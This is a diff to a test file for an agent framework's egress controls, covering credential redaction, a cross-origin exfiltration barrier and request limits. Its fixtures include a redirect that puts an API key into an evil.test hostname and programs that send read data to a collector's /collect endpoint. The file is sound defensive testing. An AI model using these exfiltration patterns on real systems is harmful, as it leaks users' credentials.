@@ -1,7 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { Agent } from "../../src/index.ts";
-import { json, type Route } from "../helpers/web-server.ts";
-import { agentWith, serve, tried } from "./harness.ts";
+import { json, type Route } from "../../test-support/web-server.ts";
+import { egressAgent, serve, tried } from "./harness.ts";
 
 /** The credential the host adds: `/` and `+` make its URL- and JSON-escaped forms differ from it. */
 const TOKEN = "Zq8/Kp4+Wm2xYv7RtN3bLc6H";
@@ -74,7 +74,7 @@ describe("an injected credential that comes back is taken out of what the progra
   const cases = Object.keys(FORMS).flatMap((form) => ["body", "header", "status", "url"].map((place) => [form, place] as const));
   test.each(cases)("echoed %s, in the response's %s", async (form, place) => {
     const api = await serve({ "/echo": echo, "/landing": json("landed") });
-    const { agent, history, logText } = agentWith({ look: everything("args[0]") }, { debug: true, egress: { allow: [api.origin], headers: { [api.origin]: HEADERS } } });
+    const { agent, history, logText } = egressAgent({ look: everything("args[0]") }, { debug: true, egress: { allow: [api.origin], headers: { [api.origin]: HEADERS } } });
     const outcome = await agent.look(`${api.origin}/echo?form=${encodeURIComponent(form)}&in=${place}`);
     expect(outcome.ok, outcome.errorMessage).toBe(true);
     const echoed = core(form, FORMS[form]!(TOKEN));
@@ -86,7 +86,7 @@ describe("an injected credential that comes back is taken out of what the progra
 
   test.each(["verbatim", "upper", "reversed", "url-encoded", "base64", "hex"])("a cookie's bare value, echoed %s", async (form) => {
     const api = await serve({ "/echo": echo });
-    const { agent } = agentWith({ look: everything("args[0]") }, { egress: { allow: [api.origin], headers: { [api.origin]: HEADERS } } });
+    const { agent } = egressAgent({ look: everything("args[0]") }, { egress: { allow: [api.origin], headers: { [api.origin]: HEADERS } } });
     const outcome = await agent.look(`${api.origin}/echo?of=cookie&form=${form}&in=body`);
     expect(holdsPartOf(outcome.value as string, core(form, FORMS[form]!(SESSION)))).toBe(false);
     expect(outcome.value).toContain("[redacted]");
@@ -94,7 +94,7 @@ describe("an injected credential that comes back is taken out of what the progra
 
   test("the whole header echoed as JSON with \\/ escapes, and an error page quoting it", async () => {
     const api = await serve({ "/echo": echo, "/fail": (request, response) => void response.writeHead(500).end(`bad credentials: ${JSON.stringify(request.headers).replaceAll("/", "\\/")}`) });
-    const { agent } = agentWith({ look: everything("args[0]"), fail: `const r = await fetch(args[0]); throw new Error(await r.text())` }, { egress: { allow: [api.origin], headers: { [api.origin]: HEADERS } } });
+    const { agent } = egressAgent({ look: everything("args[0]"), fail: `const r = await fetch(args[0]); throw new Error(await r.text())` }, { egress: { allow: [api.origin], headers: { [api.origin]: HEADERS } } });
     const echoed = await agent.look(`${api.origin}/echo?of=header&form=${encodeURIComponent("json with \\/")}&in=body`);
     expect(holdsPartOf(echoed.value as string, TOKEN.replace("/", "\\/"))).toBe(false);
     const failed = await agent.fail(`${api.origin}/fail`);
@@ -105,7 +105,7 @@ describe("an injected credential that comes back is taken out of what the progra
   test("a credential in a refused redirect's host comes back lower-cased in the error: taken out too", async () => {
     const hostToken = "Wm2xYv7RtN3bLc6HqP";
     const api = await serve({ "/bounce": (request, response) => void response.writeHead(302, { location: `http://${String(request.headers["x-api-key"])}.evil.test/` }).end() });
-    const { agent, history } = agentWith({ bounce: tried("fetch(args[0])") }, { egress: { allow: [api.origin], headers: { [api.origin]: { "x-api-key": hostToken } } } });
+    const { agent, history } = egressAgent({ bounce: tried("fetch(args[0])") }, { egress: { allow: [api.origin], headers: { [api.origin]: { "x-api-key": hostToken } } } });
     const outcome = await agent.bounce(`${api.origin}/bounce`);
     expect(outcome.value).toMatchObject({ name: "EgressError", message: expect.stringContaining("is not in egress.allow") });
     expect(holdsPartOf(JSON.stringify(outcome.value), hostToken)).toBe(false);
@@ -114,7 +114,7 @@ describe("an injected credential that comes back is taken out of what the progra
 
   test("a credential shorter than 8 characters is taken out whole, in any case; text around it is kept", async () => {
     const api = await serve({ "/echo": (request, response) => void response.end(`key=${String(request.headers["x-key"]).toUpperCase()}; other=abcdefgh`) });
-    const { agent } = agentWith({ look: `return await (await fetch(args[0])).text()` }, { egress: { allow: [api.origin], headers: { [api.origin]: { "x-key": "k7Qz9p" } } } });
+    const { agent } = egressAgent({ look: `return await (await fetch(args[0])).text()` }, { egress: { allow: [api.origin], headers: { [api.origin]: { "x-key": "k7Qz9p" } } } });
     expect((await agent.look(`${api.origin}/echo`)).value).toBe("key=[redacted]; other=abcdefgh");
   });
 });
@@ -133,7 +133,7 @@ describe("the barrier: after a response from an origin with injected headers, ot
 
   test("a program that read from the credentialed origin cannot then reach another origin", async () => {
     const { api, collector } = await servers();
-    const { agent, history } = agentWith(
+    const { agent, history } = egressAgent(
       {
         exfiltrate: exfiltrate(api.origin, collector.origin),
         bounce: `await fetch("${api.origin}/echo?in=body"); return ${tried(`fetch("${api.origin}/open-redirect?to=" + encodeURIComponent("${collector.origin}/collect?d=x"))`).replace(/^try/, "(async () => { try").replace(/}$/, "} })()")}`,
@@ -156,7 +156,7 @@ describe("the barrier: after a response from an origin with injected headers, ot
   test("egress.flows lets a named flow through, and only it", async () => {
     const { api, collector } = await servers();
     const third = await serve({ "/collect": json("third") });
-    const { agent } = agentWith(
+    const { agent } = egressAgent(
       { exfiltrate: exfiltrate(api.origin, collector.origin), third: exfiltrate(api.origin, third.origin) },
       { egress: { allow: [api.origin, collector.origin, third.origin], headers: { [api.origin]: HEADERS }, flows: [{ from: api.origin, to: collector.origin }] } },
     );
@@ -167,7 +167,7 @@ describe("the barrier: after a response from an origin with injected headers, ot
 
   test("the barrier holds across the call tree: a delegated call's read closes the other origins to its caller, and the caller's to it", async () => {
     const { api, collector } = await servers();
-    const { agent } = agentWith(
+    const { agent } = egressAgent(
       {
         "reader.childReads": `const o = await delegate("helper").read(); ${tried(`fetch("${collector.origin}/collect?d=" + encodeURIComponent(String(o.value)))`)}`,
         "reader.parentReads": `const seen = await (await fetch("${api.origin}/echo?form=reversed&in=body")).text(); return await delegate("helper").send(seen)`,
@@ -197,7 +197,7 @@ describe("the barrier: after a response from an origin with injected headers, ot
 describe("maxRequests counts the whole call tree", () => {
   test("maxRequests 2: an application call whose program delegates 16 times makes 2 requests in all", async () => {
     const site = await serve({ "/": json(1) });
-    const { agent, history } = agentWith(
+    const { agent, history } = egressAgent(
       {
         "reader.many": `let fetched = 0; for (let i = 0; i < 16; i++) { const o = await delegate("helper").grab(); if (o.ok) fetched += o.value } return fetched`,
         "helper.grab": `let n = 0; for (let i = 0; i < 2; i++) { try { await fetch("${site.origin}/"); n++ } catch (e) { if (!(e instanceof EgressError)) throw e } } return n`,
